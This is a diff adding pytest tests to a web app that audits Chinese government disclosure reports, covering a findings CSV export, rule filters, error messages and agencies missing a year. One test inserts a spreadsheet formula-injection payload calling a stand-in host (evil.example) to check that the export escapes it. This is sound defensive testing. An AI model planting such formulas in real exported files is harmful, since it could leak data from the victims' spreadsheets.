@@ -203,3 +203,126 @@ def test_a_finding_links_to_its_place_in_its_report(tmp_path: Path) -> None:
     link = re.search(r'href="(/reports/\d+#rule=[^"]+)">查看</a>', html)
     assert link and "where=" in link.group(1)
     assert client.get(link.group(1).split("#")[0]).status_code == 200
+
+
+# --- the findings page's own CSV, the rule filter, agencies missing a year ----------------------------------------
+
+
+def csv_rows(body: bytes) -> list[dict[str, str]]:
+    """A downloaded CSV's rows (it starts with a BOM for Excel)."""
+    import csv
+
+    assert body.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def test_the_findings_page_downloads_exactly_the_findings_it_lists(tmp_path: Path) -> None:
+    """The button carries the page's filters (severity too); the CSV holds every finding listed, in the page's order,
+    with the columns of ``xxgk export``'s findings CSV, written by the same safe writer."""
+    from sqlalchemy import update
+
+    from xxgk.db import store_schema as schema
+    from xxgk.store import Store
+    from xxgk.store.export import FINDING_LABELS
+
+    client = filled_client(tmp_path)
+    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
+        stored = store.findings()
+        with store.engine.begin() as conn:  # a quote as a hostile report could carry it
+            conn.execute(update(schema.Finding).where(schema.Finding.rule == "TIME-NO-DATE")
+                         .values(quote='=HYPERLINK("http://evil.example/?"&A1)'))
+    params = {"severity": "warning", "region": "江苏"}
+    html = client.get("/collection/findings", params=params).text
+    assert 'href="/collection/findings.csv?region=%E6%B1%9F%E8%8B%8F&amp;severity=warning"' in html
+    got = client.get("/collection/findings.csv", params=params)
+    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
+    assert got.headers["content-disposition"].startswith('attachment; filename="findings.csv"')
+    rows = csv_rows(got.content)
+    assert list(rows[0]) == list(FINDING_LABELS)
+    assert [(r["severity"], r["rule"], r["agency"]) for r in rows] == listed_findings(html) != []
+
+    everything = csv_rows(client.get("/collection/findings.csv").content)
+    assert len(everything) == len(stored) == len(listed_findings(client.get("/collection/findings").text))
+    assert [r["agency"] for r in everything] == sorted(r["agency"] for r in everything)  # the page's order
+    text = client.get("/collection/findings.csv", params={"rule": "time-no-date"}).content.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text and '"=HYPERLINK(' not in text  # shown as text, never run as a formula
+    assert client.get("/collection/findings.csv", params={"severity": "fatal"}).status_code == 400
+    assert client.get("/collection/findings.csv", params={"rule": "no-date"}).status_code == 400
+
+    (tmp_path / "private").mkdir()
+    private = make_client(tmp_path / "private", public_collection=False)
+    assert private.get("/collection/findings.csv", follow_redirects=False).status_code in (303, 401)
+
+
+def test_the_rule_filter_takes_several_rules_in_any_case(tmp_path: Path) -> None:
+    from xxgk.store import Store
+
+    client = filled_client(tmp_path)
+    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
+        stored = store.findings()
+    two = {"PARSE-CELL-BLANK", "TIME-NO-DATE"}
+    page = client.get("/collection/findings", params={"rule": " parse-cell-blank，Time-No-Date "})
+    assert page.status_code == 200 and 'value="PARSE-CELL-BLANK,TIME-NO-DATE"' in page.text
+    listed = listed_findings(page.text)
+    assert len(listed) == sum(f.rule in two for f in stored) and {r for _, r, _ in listed} == two
+    assert 'list="rule-choices"' in page.text and '<option value="TIME-NO-DATE">' in page.text
+    reports = client.get("/collection", params={"rule": "time-no-date parse-cell-blank"})
+    shown = set(re.findall(r'href="/reports/(\d+)"', reports.text.split('id="reports"')[1].split("</table>")[0]))
+    assert shown == {str(f.report_id) for f in stored if f.rule in two}
+    api = client.get("/api/reports", params={"rule": "Time-No-Date,PARSE-cell-blank"})
+    assert {str(r["report_id"]) for r in api.json()} == shown
+
+
+@pytest.mark.parametrize("path", ["/collection", "/collection/findings", "/collection/charts"])
+def test_an_unknown_rule_is_said_on_the_page_naming_the_closest(tmp_path: Path, path: str) -> None:
+    """A typo is not an empty list: the page keeps its form and says which rule ids are close."""
+    client = filled_client(tmp_path)
+    page = client.get(path, params={"rule": "no-date, T3-TOTAL"})
+    assert page.status_code == 400 and 'id="filter-error"' in page.text
+    said = page.text.split('id="filter-error">')[1].split("</p>")[0]
+    assert "没有这条规则：no-date；相近的规则：TIME-NO-DATE" in said and "没有这条规则：T3-TOTAL" in said
+    assert "T3-ROW-TOTAL" in said and 'value="no-date, T3-TOTAL"' in page.text
+    assert "没有符合条件" not in page.text and 'id="reports"' not in page.text and 'id="findings"' not in page.text
+
+
+def test_an_unknown_rule_is_a_400_for_downloads_and_the_api(tmp_path: Path) -> None:
+    client = filled_client(tmp_path)
+    for path in ("/collection/export.csv", "/collection/export-findings.csv", "/collection/export.xlsx"):
+        assert client.get(path, params={"rule": "late"}).status_code == 400
+    api = client.get("/api/reports", params={"rule": "late"})
+    assert api.status_code == 400 and "TIME-LATE" in api.json()["error"]
+
+
+def missing_names(html: str) -> list[str]:
+    """The agencies the 年度没有报告的机关 table lists."""
+    table = html.split('id="missing"', 1)[1].split("</table>", 1)[0]
+    return re.findall(r'<a href="/agencies/\d+">([^<]+)</a>', table)
+
+
+def test_the_agencies_missing_a_year_follow_the_filters_that_apply_to_agencies(tmp_path: Path) -> None:
+    """Region, level and name choose the agencies; errors and rules describe reports, which they have none of."""
+    client = filled_client(tmp_path)
+    everyone = missing_names(client.get("/collection", params={"year": 2024}).text)
+    assert sorted(everyone) == sorted(["平潭综合实验区", "石家庄市桥西区中山街道办事处", "麻阳苗族自治县板栗树乡人民政府"])
+    assert missing_names(client.get("/collection", params={"year": 2024, "region": "河北"}).text) == [
+        "石家庄市桥西区中山街道办事处"]
+    towns = missing_names(client.get("/collection", params={"year": 2024, "level": "township"}).text)
+    assert sorted(towns) == ["石家庄市桥西区中山街道办事处", "麻阳苗族自治县板栗树乡人民政府"]
+    assert missing_names(client.get("/collection", params={"year": 2024, "agency": "麻阳"}).text) == [
+        "麻阳苗族自治县板栗树乡人民政府"]
+    assert missing_names(client.get("/collection", params={"year": 2024, "region": "江苏"}).text) == []
+    for ignored in ({"errors": "no"}, {"rule": "TIME-NO-DATE"}):
+        assert sorted(missing_names(client.get("/collection", params={"year": 2024, **ignored}).text)) == sorted(everyone)
+    api = client.get("/api/missing", params={"year": 2024, "region": "河北"})
+    assert [m["name"] for m in api.json()] == ["石家庄市桥西区中山街道办事处"]
+
+
+@pytest.mark.parametrize("path", ["/collection", "/collection/findings", "/collection/charts",
+                                  "/collection/findings.csv", "/api/reports"])
+def test_the_filter_form_sent_with_every_year_is_not_an_error(tmp_path: Path, path: str) -> None:
+    """年度 全部 sends ``year=``: every year, as when it is left out; a wrong year is still refused."""
+    client = filled_client(tmp_path)
+    blank = client.get(path + "?year=&region=&level=&errors=&rule=&agency=")
+    links = re.compile(rb'href="[^"]*"')  # the pages' own links carry the address as given
+    assert blank.status_code == 200 and links.sub(b"", blank.content) == links.sub(b"", client.get(path).content)
+    assert client.get(path, params={"year": "1900"}).status_code == 422
